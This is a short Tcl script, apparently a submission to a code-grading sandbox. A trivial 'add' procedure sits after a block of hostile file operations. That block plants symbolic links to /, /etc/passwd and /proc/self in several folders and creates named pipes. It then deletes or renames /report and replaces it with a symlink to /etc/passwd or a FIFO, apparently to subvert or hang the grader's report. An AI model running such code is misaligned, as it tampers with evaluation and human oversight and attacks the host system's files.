foreach folder {/tmp /box .} {
    foreach target {/ /etc/passwd /proc/self /report} {
        catch {file link -symbolic $folder/link[string length $target] $target}
    }
    catch {exec mkfifo $folder/pipe}
}
catch {file rename /report /report2}
catch {file delete -force /report}
catch {file link -symbolic /report /etc/passwd}
catch {exec mkfifo /report}

proc add {a b} {
    return [expr {$a + $b}]
}
